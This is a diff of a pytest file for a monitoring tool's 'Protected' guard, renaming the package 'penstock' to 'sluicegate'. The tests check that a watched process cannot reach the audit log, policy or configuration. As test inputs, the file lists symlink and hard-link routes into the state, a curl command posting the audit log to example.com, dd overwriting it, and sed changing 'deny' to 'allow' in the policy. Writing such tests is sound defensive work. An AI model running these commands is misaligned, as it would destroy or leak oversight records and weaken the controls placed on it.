@@ -5,14 +5,14 @@ from pathlib import Path
 
 import pytest
 
-from penstock.flow.monitor.state import Protected
+from sluicegate.flow.monitor.state import Protected
 
 
 @pytest.fixture
 def project(tmp_path):
-    (tmp_path / ".penstock" / "sec").mkdir(parents=True)
-    (tmp_path / ".penstock" / "sec" / "audit.jsonl").write_text("{}\n")
-    (tmp_path / "penstock.toml").write_text("")
+    (tmp_path / ".sluicegate" / "sec").mkdir(parents=True)
+    (tmp_path / ".sluicegate" / "sec" / "audit.jsonl").write_text("{}\n")
+    (tmp_path / "sluicegate.toml").write_text("")
     (tmp_path / "src").mkdir()
     (tmp_path / "src" / "a.py").write_text("")
     return tmp_path
@@ -21,30 +21,30 @@ def project(tmp_path):
 @pytest.fixture
 def protected(project):
     return Protected.of(
-        written=[project / "penstock.toml", project / "policy.toml"], read=[project / ".penstock"]
+        written=[project / "sluicegate.toml", project / "policy.toml"], read=[project / ".sluicegate"]
     )
 
 
 def ways(project):
     """Paths that all lead into the state."""
     link = project / "innocent"
-    link.symlink_to(project / ".penstock")
+    link.symlink_to(project / ".sluicegate")
     chain = project / "src" / "chain"
     chain.symlink_to("../innocent")
     hard = project / "notes.jsonl"
-    os.link(project / ".penstock" / "sec" / "audit.jsonl", hard)
+    os.link(project / ".sluicegate" / "sec" / "audit.jsonl", hard)
     toml = project / "settings"
-    os.link(project / "penstock.toml", toml)
+    os.link(project / "sluicegate.toml", toml)
     return [
-        project / ".penstock",
-        project / ".penstock" / "sec" / "audit.jsonl",
-        project / ".penstock" / "new" / "deep",
-        project / "src" / ".." / ".penstock" / "x",
-        Path(f"{project}//.penstock/./x"),
+        project / ".sluicegate",
+        project / ".sluicegate" / "sec" / "audit.jsonl",
+        project / ".sluicegate" / "new" / "deep",
+        project / "src" / ".." / ".sluicegate" / "x",
+        Path(f"{project}//.sluicegate/./x"),
         link / "sec" / "audit.jsonl",
         chain / "sec" / "sigs" / "forged",
         hard,
-        project / "penstock.toml",
+        project / "sluicegate.toml",
         toml,
         project / "policy.toml",  # does not exist yet: whoever makes it makes the policy
     ]
@@ -56,8 +56,14 @@ def test_every_way_into_the_state_is_refused(project, protected):
 
 
 def test_what_only_looks_like_the_state_is_not(project, protected):
-    (project / ".penstock-notes").mkdir()
-    for path in ("src/a.py", ".penstock-notes/x", "penstock.toml.bak", "x.penstock", "src/penstock.toml.md"):
+    (project / ".sluicegate-notes").mkdir()
+    for path in (
+        "src/a.py",
+        ".sluicegate-notes/x",
+        "sluicegate.toml.bak",
+        "x.sluicegate",
+        "src/sluicegate.toml.md",
+    ):
         assert protected.against_writing(project / path) is None, path
 
 
@@ -67,22 +73,24 @@ def test_a_file_with_other_hard_links_is_not_refused_for_that(project, protected
 
 
 def test_the_state_may_not_be_read_and_the_configuration_may(project, protected):
-    assert protected.against_reading(project / "src" / ".." / ".penstock" / "sec" / "audit.jsonl") is not None
-    assert protected.against_reading(project / "penstock.toml") is None
+    assert (
+        protected.against_reading(project / "src" / ".." / ".sluicegate" / "sec" / "audit.jsonl") is not None
+    )
+    assert protected.against_reading(project / "sluicegate.toml") is None
 
 
 @pytest.mark.parametrize(
     "argv",
     [
-        ["touch", ".penstock/sec/audit.jsonl"],
-        ["touch", "./src/../.penstock/x"],
-        ["cp", "x", "penstock.toml"],
+        ["touch", ".sluicegate/sec/audit.jsonl"],
+        ["touch", "./src/../.sluicegate/x"],
+        ["cp", "x", "sluicegate.toml"],
         ["sed", "-i", "s/deny/allow/", "policy.toml"],
-        ["dd", "if=/dev/zero", "of=.penstock/sec/audit.jsonl"],
-        ["curl", "--output=penstock.toml", "https://example.com"],
-        ["curl", "-openstock.toml", "https://example.com"],
-        ["curl", "-d", "@.penstock/sec/audit.jsonl", "https://example.com"],
-        ["curl", "file://{project}/.penstock/sec/audit.jsonl"],
+        ["dd", "if=/dev/zero", "of=.sluicegate/sec/audit.jsonl"],
+        ["curl", "--output=sluicegate.toml", "https://example.com"],
+        ["curl", "-osluicegate.toml", "https://example.com"],
+        ["curl", "-d", "@.sluicegate/sec/audit.jsonl", "https://example.com"],
+        ["curl", "file://{project}/.sluicegate/sec/audit.jsonl"],
         ["tee", "innocent/sec/audit.jsonl"],
         ["tee", "notes.jsonl"],
         ["rm", "-rf", "."],
@@ -104,7 +112,7 @@ def test_a_command_that_names_or_sweeps_up_the_state_is_refused(project, protect
         ["ls", "."],
         ["git", "-C", ".", "status"],
         ["rm", "-rf", "src"],
-        ["git", "commit", "-m", "write penstock.toml anew"],
+        ["git", "commit", "-m", "write sluicegate.toml anew"],
         ["echo", "a\0b"],
         ["grep", "-r", "x", ".."],
         ["rm"],
@@ -116,11 +124,11 @@ def test_a_command_that_does_neither_passes(project, protected, argv):
 
 
 def test_code_that_mentions_the_state_is_seen(project, protected):
-    assert protected.mentioned("open('.penstock/sec/audit.jsonl', 'w')") is not None
+    assert protected.mentioned("open('.sluicegate/sec/audit.jsonl', 'w')") is not None
     assert protected.mentioned(f"rm -rf {project}/policy.toml") is not None
-    assert protected.mentioned("cat <penstock.toml") is not None
-    assert protected.mentioned("import penstock; penstock.toml_of(x.penstocks)") is None
-    assert Protected().mentioned(".penstock") is None
+    assert protected.mentioned("cat <sluicegate.toml") is not None
+    assert protected.mentioned("import sluicegate; sluicegate.toml_of(x.sluicegates)") is None
+    assert Protected().mentioned(".sluicegate") is None
 
 
 def test_nothing_is_protected_without_a_place(tmp_path):
@@ -141,30 +149,30 @@ def test_what_processes_hold_is_not_read(path):
 def test_what_would_be_a_configuration_or_state_by_its_name_is_not_written(tmp_path):
     """A program that is started beside it would be under its policy."""
     root = tmp_path / "work"
-    kept = Protected.of(written=[root / ".penstock", root / "penstock.toml"])
+    kept = Protected.of(written=[root / ".sluicegate", root / "sluicegate.toml"])
     for name in (
-        "sub/penstock.toml",
-        "sub/.penstock/sec/audit.jsonl",
-        "a/b/Penstock.TOML",
-        "../other/penstock.toml",
+        "sub/sluicegate.toml",
+        "sub/.sluicegate/sec/audit.jsonl",
+        "a/b/Sluicegate.TOML",
+        "../other/sluicegate.toml",
     ):
         assert kept.against_writing(root / name) is not None, name
-    for name in ("sub/penstock.toml.md", "penstock/a.toml", "sub/.penstockrc"):
+    for name in ("sub/sluicegate.toml.md", "sluicegate/a.toml", "sub/.sluicegaterc"):
         assert kept.against_writing(root / name) is None, name
 
 
 def test_a_project_may_lie_in_a_directory_of_that_name(tmp_path):
-    root = tmp_path / ".penstock" / "env" / "work"
-    kept = Protected.of(written=[root / ".penstock", root / "penstock.toml"])
+    root = tmp_path / ".sluicegate" / "env" / "work"
+    kept = Protected.of(written=[root / ".sluicegate", root / "sluicegate.toml"])
     assert kept.against_writing(root / "a.txt") is None
-    assert kept.against_writing(root / ".penstock" / "a") is not None
+    assert kept.against_writing(root / ".sluicegate" / "a") is not None
 
 
 def test_the_installed_package_is_not_written_and_may_be_used(tmp_path):
     code = tmp_path / "work" / ".venv"
     (code / "lib").mkdir(parents=True)
-    kept = Protected.of(written=[tmp_path / "work" / ".penstock"], code=[code])
-    assert kept.against_writing(code / "lib" / "penstock.py") == code
+    kept = Protected.of(written=[tmp_path / "work" / ".sluicegate"], code=[code])
+    assert kept.against_writing(code / "lib" / "sluicegate.py") == code
     assert kept.against_reading(code / "lib") is None
     assert kept.named([str(code / "bin" / "python"), str(code / "lib" / "run.py")], tmp_path) is None
     assert code in kept.protection().fixed
